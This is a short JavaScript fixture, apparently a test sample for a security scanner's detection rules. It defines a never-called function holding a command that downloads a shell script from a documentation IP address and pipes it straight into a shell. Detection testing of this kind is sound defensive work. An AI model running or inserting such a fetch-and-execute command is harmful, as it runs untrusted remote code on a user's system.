// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
// executed directly: reported by download_exec_pipe_shell (high), not by this rule
const { execSync } = require('child_process');
function never() {
  execSync('curl -s http://192.0.2.41/s.sh | sh');
}
module.exports = { never };
